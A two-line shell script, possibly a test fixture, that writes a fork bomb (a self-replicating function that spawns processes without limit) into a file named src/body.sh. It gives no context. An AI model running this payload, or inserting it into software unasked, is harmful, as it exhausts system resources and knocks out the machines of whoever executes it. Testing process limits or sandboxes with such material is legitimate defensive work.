#!/bin/sh
printf 'bomb() { bomb | bomb & sleep 100; }; bomb\n' > src/body.sh
